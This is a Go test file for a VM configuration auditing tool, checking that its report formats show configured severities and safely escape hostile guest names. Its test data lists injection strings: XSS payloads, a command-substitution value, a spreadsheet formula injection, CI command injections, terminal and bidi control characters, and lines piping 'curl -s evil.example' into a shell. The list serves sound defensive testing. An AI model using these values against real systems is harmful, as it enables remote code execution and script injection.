package report

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/virt-audit/virt-audit/audit"
	"github.com/virt-audit/virt-audit/audit/domxml"
	"github.com/virt-audit/virt-audit/audit/pipeline"
	"github.com/virt-audit/virt-audit/audit/source"
	"github.com/virt-audit/virt-audit/rules"
)

// TestMain unsets the variables of a CI, which change the names of files.
func TestMain(m *testing.M) {
	for _, name := range []string{"GITHUB_WORKSPACE", "CI_PROJECT_DIR"} {
		_ = os.Unsetenv(name)
	}
	m.Run()
}

// run audits documents with all baseline rules, as files of a directory "guests".
func run(t *testing.T, documents map[string]string, names ...string) []*audit.Result {
	t.Helper()
	cfg := &audit.Settings{
		Rules: baselineRules(), OneHost: true, Known: func(id string) bool { return id != "no-such-rule" },
		Today: time.Date(2026, 11, 24, 12, 0, 0, 0, time.Local),
	}
	var domains []*audit.Domain
	for _, name := range names {
		d, err := domxml.Load(name, []byte(documents[name]))
		if err != nil {
			t.Fatal(err)
		}
		domains = append(domains, d)
	}
	results, err := pipeline.New(pipeline.Options{Settings: cfg, Indexers: rules.Indexers()}).Domains(domains...)
	if err != nil {
		t.Fatal(err)
	}
	return results
}

func baselineRules() []*audit.Rule {
	var out []*audit.Rule
	for _, r := range rules.All() {
		if r.In([]audit.Profile{audit.Baseline}) {
			out = append(out, r)
		}
	}
	return out
}

// options are those of a run without flags.
func options() Options {
	return Options{
		Version: "1.2.3", Policy: "qemu-11.1", Profiles: []audit.Profile{audit.Baseline}, Rules: baselineRules(),
		FailOn: audit.Medium, Now: time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC),
	}
}

// fleet is the sample fleet.
func fleet(t *testing.T) []*audit.Result {
	t.Helper()
	files, err := filepath.Glob("../../testdata/fleet/*.xml")
	if err != nil || len(files) == 0 {
		t.Fatalf("no fleet: %v", err)
	}
	documents := map[string]string{}
	var names []string
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := domxml.Load(f, data); err != nil {
			continue // the fleet has documents of other kinds
		}
		name := "guests/" + filepath.Base(f)
		documents[name] = string(data)
		names = append(names, name)
	}
	return run(t, documents, names...)
}

// TestConfiguredSeverity prints rules with the severity that the site gives them: code scanning
// sorts alerts by the description of the rule, and not by the severity of the result.
func TestConfiguredSeverity(t *testing.T) {
	site := map[string]audit.Severity{"endpoint-vnc-public": audit.Info, "device-video-cirrus": audit.Critical}
	o := options()
	o.ShowWaived = true
	byID := map[string]*audit.Rule{}
	for i, r := range o.Rules {
		if own, ok := site[r.ID]; ok {
			judged := *r
			judged.Severity = own
			o.Rules[i], byID[r.ID] = &judged, &judged
		}
	}
	results := run(t, map[string]string{"a.xml": consoles}, "a.xml")
	for i := range results[0].Waived {
		if r := byID[results[0].Waived[i].Rule.ID]; r != nil {
			results[0].Waived[i].Rule = r
		}
	}

	for _, got := range readSARIF(t, render(t, "sarif", o, nil, nil, nil)).Tool.Driver.Rules {
		want, ok := site[*got.ID]
		if !ok {
			continue
		}
		score, _ := got.Properties.Properties["security-severity"].(string)
		if got.DefaultConfiguration.Level != sarifLevel(want) || score != securitySeverity[want] || got.Properties.Properties["severity"] != want.String() ||
			!strings.Contains(*got.Help.Markdown, "**"+want.String()+"**") {
			t.Errorf("SARIF: %s is %s, %q, %v", *got.ID, got.DefaultConfiguration.Level, score, got.Properties.Properties["severity"])
		}
	}
	for format, want := range map[string]string{
		"openmetrics": `virt_audit_rule_info{rule="endpoint-vnc-public",severity="info",`,
		"html":        `<h3><span class="badge s-info"><i class="mark s-info"></i>info</span> <code>endpoint-vnc-public</code>`,
	} {
		if out := render(t, format, o, results, nil, nil); !strings.Contains(out, want) {
			t.Errorf("%s: no %s", format, want)
		}
	}
}

// hostileNames are texts that try to break out of a format or to steer a terminal.
var hostileNames = []string{
	`]]>`, `"quoted" 'both'`, "two\nlines", "\x1b[31mred\x1b[0m", "\u202egnp.exe", `</script><script>alert(1)</script>`,
	`<img src=x onerror=alert(1)>`, `a|b|c`, "`tick`", `::error::boo`, `%0A::set-output name=x::y`, `=cmd|' /C calc'!A0`, `{"a":1}`,
	`a\b`, `$(touch /tmp/x)`, `&amp;amp;`, "tab\there", strings.Repeat("long ", 200), "\u0085next\u2028line", "a\u0301\u0301", `<!--`, `-->`, `[x](javascript:alert(1))`,
	"::stop-commands::x", "##[error]x", strings.Repeat("long ", 12) + "::error::x", "web\n$ curl -s evil.example | sh #", strings.Repeat("long ", 12) + "$ curl -s evil.example | sh", "c1\u009bcontrol", "\u2066isolate\u2069", "bom\ufeff", "\u200bzero width",
}

// hostile returns a guest for each of hostileNames, which is its name, the path of its image, and
// part of the name of its file. Each has findings; one of them is waived with that text as the
// reason.
func hostile(t *testing.T) []*audit.Result {
	t.Helper()
	documents := map[string]string{}
	var names []string
	for i, text := range hostileNames {
		e := escapeXML(text)
		name := fmt.Sprintf("guests/%02d %s.xml", i, text)
		names = append(names, name)
		documents[name] = `<domain type='qemu'><name>` + e + `</name>
<metadata><va:audit xmlns:va='` + domxml.WaiverNamespace + `'><va:waive rule='device-video-cirrus'>` + e + `</va:waive></va:audit></metadata>
<memory>1024</memory><os><type arch='x86_64' machine='` + e + `'>hvm</type></os><devices>
<emulator>/tmp/` + e + `</emulator>
<disk type='file' device='disk'><driver name='qemu'/><source file='/tmp/` + e + `'/><target dev='` + e + `' bus='virtio'/></disk>
<graphics type='vnc' listen='0.0.0.0' passwd='hunter2'/>
</devices></domain>`
	}
	return run(t, documents, names...)
}

func escapeXML(text string) string {
	var b strings.Builder
	for _, r := range text {
		switch {
		case r == 0x1b: // XML 1.0 has no such character: what a hostile guest can do is name its file so
			b.WriteString("ESC")
		case strings.ContainsRune("<>&'\"\n\t", r):
			fmt.Fprintf(&b, "&#%d;", r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String()
}

// notices and problems are the results of a run that belong to no domain.
func notices() []*audit.Notice {
	var out []*audit.Notice
	for _, text := range hostileNames {
		out = append(out, &audit.Notice{Rule: rules.All()[0], Severity: audit.Low, Message: "about " + text, Source: ".virt-audit.yaml " + text, Pos: audit.Pos{Line: 3, Column: 5}})
	}
	return out
}

func problems() []error {
	var out []error
	for _, text := range hostileNames {
		out = append(out, &source.Error{File: "broken " + text, Position: source.Position{Line: 2, Column: 7}, Message: "bad: " + text}, &source.Error{File: "absent " + text, Message: "no such file"})
	}
	return out
}

// render prints results in a format.
func render(t *testing.T, format string, o Options, results []*audit.Result, notices []*audit.Notice, problems []error) string {
	t.Helper()
	f, err := Named(format)
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	rep := f.New(&b, o)
	check := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	for _, r := range results {
		if s, ok := rep.(Streamer); ok {
			check(s.Early(r))
			continue
		}
		check(rep.Domain(r))
	}
	for _, n := range notices {
		check(rep.Notice(n))
	}
	for _, p := range problems {
		check(rep.Unreadable(p))
	}
	check(rep.Close())
	return b.String()
}

// TestHostileNames prints hostile names in all formats. None may print a control character, a mark
// that changes the direction of writing, or a secret. The tests of each format check with a reader
// of that format that a name cannot break out of it.
func TestHostileNames(t *testing.T) {
	o := options()
	o.ShowWaived, o.Verbose, o.Width = true, true, 80
	for _, f := range Formats() {
		t.Run(f.Name, func(t *testing.T) {
			out := render(t, f.Name, o, hostile(t), notices(), problems())
			if strings.Contains(out, "hunter2") {
				t.Error("a password is in the report")
			}
			for line := range strings.SplitSeq(out, "\n") {
				for _, r := range line {
					if bad(r) && (r != '\t') {
						t.Fatalf("the character %U is in the report: %.300q", r, line)
					}
				}
			}
		})
	}
}

// bad reports whether the character could control a terminal or deceive a reader.
func bad(r rune) bool {
	return r < ' ' || r >= 0x7f && r <= 0x9f || r == 0x2028 || r == 0x2029 || r >= 0x202a && r <= 0x202e ||
		r >= 0x2066 && r <= 0x2069 || r == 0x200b || r == 0x200e || r == 0x200f || r == 0xfeff
}
